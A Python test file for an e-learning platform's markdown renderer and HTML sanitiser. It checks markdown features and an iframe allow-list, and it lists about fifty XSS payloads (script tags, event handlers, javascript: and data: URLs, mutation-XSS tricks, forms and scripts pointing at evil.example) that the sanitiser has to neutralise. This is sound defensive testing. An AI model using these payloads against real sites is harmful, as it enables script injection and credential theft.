"""Markdown rendering and the sanitiser: the features trainers are promised, and XSS vectors removed."""

from __future__ import annotations

import html

import html5lib
import pytest

from elearn.core.markdown import render, render_inline, sanitize

# Each vector must come out with no script execution path: no <script>, no event
# handler attribute, no javascript:/data:/vbscript: URL, no style, no svg/math, no
# iframe from a host outside the allow-list, no form.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<form action="https://evil.example"><input name=password></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div onclick="alert(1)">x</div>',
    "<body onload=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example/)}</style>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<img src="x" alt="" /onerror=alert(1)>',
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="//evil.example">protocol-relative</a>',
    '<img src="https://tracker.example/pixel.gif">',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<input autofocus onfocus=alert(1)>",
    '<a href="#" class="button danger-zone">spoofed class</a>',
]

BAD_SCHEMES = ("javascript:", "data:", "vbscript:")


def dangerous_parts(html: str) -> list[str]:
    """Parse the output as a browser would and list anything that could run code or leak."""
    found = []
    tree = html5lib.parse(html, namespaceHTMLElements=False)
    for element in tree.iter():
        tag = element.tag if isinstance(element.tag, str) else ""
        if tag in {
            "script",
            "style",
            "svg",
            "math",
            "form",
            "input",
            "object",
            "embed",
            "base",
            "meta",
            "link",
            "noscript",
            "template",
            "textarea",
        }:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            lowered = "".join(value.split()).lower()
            if name.lower().startswith("on") or name.lower() in {"style", "srcdoc", "formaction"}:
                found.append(f"{tag}[{name}]")
            if lowered.startswith(BAD_SCHEMES):
                found.append(f"{tag}[{name}={value}]")
            if name in {"src", "poster"} and tag != "iframe" and not value.startswith("/"):
                found.append(f"{tag}[{name}] from another host")
            if name == "src" and value.startswith("//"):
                found.append(f"{tag}[src] protocol-relative")
        if tag == "iframe" and element.get("src"):
            found.append("iframe to a host outside the allow-list")
    return found


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vectors_are_neutralised(vector):
    output = render(vector)
    assert dangerous_parts(output) == [], output
    assert dangerous_parts(sanitize(vector)) == []


def test_big_list_style_strings_survive_as_text():
    for text in ["Sociālās inovācijas centrs", "Ž Š Č ć đ ø å æ õ ä ö ü", "Москва ж щ ы", "1 < 2 & 3 > 2", "😀 ‮RTL"]:
        assert render(text) == f"<p>{html.escape(text, quote=False)}</p>"


def test_allow_listed_video_iframe_stays():
    html = render('<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Interview"></iframe>')
    assert 'src="https://www.youtube-nocookie.com/embed/abc"' in html and 'title="Interview"' in html
    assert 'src="https://player.vimeo.com/video/1"' in render(
        '<iframe src="https://player.vimeo.com/video/1"></iframe>'
    )


def test_markdown_features():
    text = (
        "## Funding sources\n\n| Source | Share |\n|---|---|\n| Sales | 60% |\n\n"
        '!!! note "In Latvia"\n    The law took effect in 2018.\n\n'
        "A claim.[^1]\n\n[^1]: The source.\n\n```\ncode <b>\n```\n"
    )
    html = render(text)
    assert '<h2 id="funding-sources">Funding sources</h2>' in html
    assert "<table>" in html and "<td>Sales</td>" in html
    assert '<div class="admonition note">' in html and '<p class="admonition-title">In Latvia</p>' in html
    assert 'class="footnote-ref"' in html and 'id="fn:1"' in html
    assert "<pre><code>code &lt;b&gt;\n</code></pre>" in html


def test_unicode_heading_anchors():
    assert '<h2 id="sociālā-uzņēmējdarbība">' in render("## Sociālā uzņēmējdarbība")


def test_id_prefix_keeps_ids_unique():
    html = render("# Title\n\nNote[^1]\n\n[^1]: x", id_prefix="q1-")
    assert 'id="q1-title"' in html and 'href="#q1-fn' in html


def test_links_and_images_are_rewritten_by_the_caller():
    html = render("[next](02-next.md) ![alt](../media/a.png)", lambda url, tag: f"/rewritten/{tag}")
    assert 'href="/rewritten/a"' in html and 'src="/rewritten/img"' in html and 'loading="lazy"' in html


def test_render_inline_has_no_paragraph():
    assert render_inline("**bold** choice") == "<strong>bold</strong> choice"
